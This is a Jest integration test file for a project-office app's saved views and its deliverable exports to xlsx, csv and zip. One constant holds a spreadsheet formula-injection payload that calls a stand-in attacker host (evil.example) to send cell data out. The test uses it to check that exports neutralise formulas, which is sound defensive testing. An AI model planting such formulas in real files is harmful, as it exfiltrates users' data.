import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { DeliverablePage, Problem, SavedView, SavedViewRequest } from '@office/contracts';
import { readXlsx } from 'hucre';
import { openBoardRoom, pdf, type BoardRoom, type TestActor } from '../support/board.js';
import { openOffice, type TestOffice } from '../support/office.js';
import { addPerson, signIn } from '../support/people.js';
import { zipEntries } from '../support/zip-entries.js';

const EVIL = '=WEBSERVICE("http://evil.example/"&A1)';

let office: TestOffice;
let room: BoardRoom;

beforeAll(async () => {
  office = await openOffice({ PUBLIC_URL: 'https://office.example' });
  room = await openBoardRoom(office);
  await office.sql(`UPDATE deliverable SET title = $1 WHERE number = 'D4.4'`, [EVIL]);
  const id = room.strive.idOf('D2.2');
  await room.upload(id, 'outline', { fileName: 'Báo cáo.pdf' });
  await room.upload(id, 'chapters', { fileName: 'Báo cáo.pdf' });
});
afterAll(() => office.close());

const ifMatch = (version: number): { 'if-match': string } => ({ 'if-match': `"${version}"` });

describe('a view of the list', () => {
  const mine = (): TestActor => room.lead;
  const keep = (request: Partial<SavedViewRequest> & { name: string }, by = mine()) =>
    by.member.request('saved-views', { method: 'POST', payload: { filter: {}, standard: false, ...request } });
  const kept = async (by = mine()): Promise<SavedView[]> => (await by.member.request('deliverables?limit=1')).json<DeliverablePage>().views;
  const change = async (view: SavedView, part: Partial<SavedViewRequest>, seen = view.version) =>
    mine().member.request(`saved-views/${view.id}`, {
      method: 'PUT',
      headers: ifMatch(seen),
      payload: { name: view.name, filter: view.filter, standard: view.standard, ...part },
    });
  const named = (views: SavedView[], name: string): SavedView => views.find((view) => view.name === name)!;

  it('is kept under a name and comes along with the list, also past its end', async () => {
    const answer = await keep({ name: ' Late in WP2 ', filter: { workPackage: 'WP2', late: true }, standard: true });
    expect(answer.statusCode).toBe(201);
    expect(answer.json<SavedView[]>()).toEqual(await kept());
    expect(await kept()).toMatchObject([{ name: 'Late in WP2', filter: { workPackage: 'WP2', late: true }, standard: true, version: 1 }]);
    const past = (await mine().member.request('deliverables?offset=900&workPackage=WP2')).json<DeliverablePage>();
    expect(past).toMatchObject({ items: [], views: [{ name: 'Late in WP2' }] });
  });

  it('is nobody else’s', async () => {
    const [view] = await kept();
    expect(await kept(room.coordinator)).toEqual([]);
    const options = { method: 'DELETE', headers: ifMatch(view!.version) } as const;
    expect((await room.coordinator.member.request(`saved-views/${view!.id}`, options)).statusCode).toBe(404);
    expect((await keep({ name: 'Late in WP2' }, room.observer)).statusCode).toBe(201);
  });

  it.each([
    [{ name: '' }, 'name', 'is-not-empty'],
    [{ name: 'LATE in wp2' }, 'name', 'name-taken'],
    [{ name: 'x'.repeat(61) }, 'name', 'max-length'],
    [{ name: 'Odd', filter: { state: 'unheard' } }, 'filter.state', 'is-in'],
    [{ name: 'Odd', filter: { colour: 'red' } }, 'filter.colour', 'whitelist-validation'],
  ])('%j is refused', async (request, path, code) => {
    const answer = await keep(request as SavedViewRequest);
    expect(answer.statusCode).toBe(422);
    expect(answer.json<Problem>().errors).toEqual(expect.arrayContaining([expect.objectContaining({ path, code })]));
  });

  it('is the one that the list opens with until another is', async () => {
    const views = (await keep({ name: 'Ours', filter: { part: 'lead' }, standard: true })).json<SavedView[]>();
    expect(views.map(({ name, standard, version }) => [name, standard, version])).toEqual([
      ['Late in WP2', false, 2],
      ['Ours', true, 1],
    ]);
  });

  it('is changed by who has seen how it is', async () => {
    const before = named(await kept(), 'Late in WP2');
    expect((await change(before, { name: 'Late' }, 1)).statusCode).toBe(412);
    const views = (await change(before, { name: 'Late', filter: { late: true } })).json<SavedView[]>();
    expect(named(views, 'Late')).toMatchObject({ filter: { late: true }, version: before.version + 1 });
    expect((await change(named(views, 'Late'), { name: 'ours' })).json<Problem>().errors).toMatchObject([{ code: 'name-taken' }]);
  });

  it('is dropped', async () => {
    const view = named(await kept(), 'Late');
    const answer = await mine().member.request(`saved-views/${view.id}`, { method: 'DELETE', headers: ifMatch(view.version) });
    expect(answer.json<SavedView[]>().map(({ name }) => name)).toEqual(['Ours']);
  });

  it('two of the same name at once: one is kept', async () => {
    const answers = await Promise.all([keep({ name: 'Twice' }), keep({ name: 'twice' })]);
    expect(answers.map(({ statusCode }) => statusCode).sort()).toEqual([201, 422]);
  });
});

describe('the list as a file', () => {
  const get = (path: string) => room.observer.member.request(`deliverables/${path}`);

  it.each([
    ['xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
    ['csv', 'text/csv; charset=utf-8; header=present'],
    ['zip', 'application/zip'],
  ])('%s is saved by a name that says what and of when, by all who may read and nobody else', async (ending, type) => {
    const answer = await get(`export.${ending}`);
    expect(answer.statusCode).toBe(200);
    expect(answer.headers).toMatchObject({
      'content-type': type,
      'content-disposition': `attachment; filename="STRIVE-deliverables-2024-09-16.${ending}"`,
      'cache-control': 'private, no-store',
      'content-security-policy': 'sandbox',
    });
    await addPerson(office, `stranger.${ending}@university.example`);
    const cookie = await signIn(office, `stranger.${ending}@university.example`);
    const url = `/api/projects/${room.strive.projectId}/deliverables/export.${ending}`;
    expect((await office.app.inject({ url, headers: { cookie } })).statusCode).toBe(404);
  });

  it('has what the list shows with the same filter, or what is chosen of it', async () => {
    const rowsOf = async (query: string): Promise<unknown[]> =>
      (await readXlsx((await get(`export.xlsx?${query}`)).rawPayload)).sheets[0]!.rows.slice(1).map(([number]) => number);
    const listed = (await room.observer.member.request('deliverables?workPackage=WP2')).json<DeliverablePage>().items;
    expect(await rowsOf('workPackage=WP2')).toEqual(listed.map(({ number }) => number));
    const ids = ['D4.4', 'D2.2'].map(room.strive.idOf).join(',');
    expect(await rowsOf(`ids=${ids}`)).toEqual(['D2.2', 'D4.4']);
    expect(await rowsOf(`workPackage=WP2&ids=${ids}`)).toEqual(['D2.2']);
    expect((await get('export.csv?ids=D2.2')).statusCode).toBe(422);
  });

  it('keeps what looks like a formula from being one', async () => {
    const text = (await get('export.csv?workPackage=WP4')).payload;
    expect(text).toContain(`"'=WEBSERVICE(""http://evil.example/""&A1)"`);
    expect(text.startsWith('\uFEFFNumber,Title,Lead,')).toBe(true);
  });
});

describe('the files as an archive', () => {
  const archive = async (query: string): Promise<Map<string, string>> =>
    zipEntries((await room.observer.member.request(`deliverables/export.zip?${query}`)).rawPayload);

  it('has the newest of each, with lists of what it is', async () => {
    const entries = await archive('');
    const path = 'D2.2 Report on the seminar in Quang Ninh/v0.2 Báo cáo.pdf';
    expect([...entries.keys()]).toEqual(['deliverables.xlsx', 'deliverables.csv', 'files.csv', path]);
    const hash = createHash('sha256').update(pdf('chapters')).digest('hex');
    expect(entries.get('files.csv')).toContain(`${hash},${path}`);
    expect(entries.get(path)).toBe(pdf('chapters').toString());
  });

  it('has every version for who asks for it', async () => {
    const files = [...(await archive('versions=all')).keys()].slice(3);
    expect(files.map((path) => path.split('/')[1])).toEqual(['v0.2 Báo cáo.pdf', 'v0.1 Báo cáo.pdf']);
  });

  it('says of a file that is not handed on that and why it is missing', async () => {
    const [file] = await office.sql<{ sha256: string }>(`SELECT sha256 FROM deliverable_version WHERE minor = 2`);
    await office.sql(
      `INSERT INTO file_scan (project_id, id, sha256, verdict, signature, at) VALUES ($1, gen_random_uuid(), $2, 'infected', 'Test', now())`,
      [room.strive.projectId, file!.sha256],
    );
    const entries = await archive('');
    expect([...entries.keys()]).toHaveLength(3);
    expect(entries.get('files.csv')).toContain('left out: the virus scanner found something');
  });

  it('is one at a time for each person, and the next one when it was read', async () => {
    const get = () => room.observer.member.request('deliverables/export.zip');
    const answers = await Promise.all([get(), get()]);
    expect(answers.map(({ statusCode }) => statusCode).sort()).toEqual([200, 429]);
    expect((await get()).statusCode).toBe(200);
  });
});
